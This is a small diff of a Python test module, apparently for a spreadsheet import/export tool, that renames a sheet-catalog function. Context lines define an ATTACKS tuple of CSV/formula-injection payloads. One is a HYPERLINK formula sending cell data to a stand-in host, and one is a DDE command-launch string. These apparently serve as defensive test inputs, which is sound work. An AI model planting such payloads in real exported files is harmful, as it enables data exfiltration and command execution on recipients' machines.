@@ -14,11 +14,11 @@ from desk.cli import main
 from desk.core.errors import DeskError
 from desk.db.listing import ListQuery
 from desk.petitions.service import save_petition
-from desk.sheets.catalog import sheet_specs
+from desk.sheets.catalog import discover_sheets
 from desk.sheets.reader import MAX_ROWS, read_table
 from desk.sheets.writer import write_export, write_records
 
-SPECS = sheet_specs()
+SPECS = discover_sheets()
 ATTACKS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"点这里\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)")
 
 
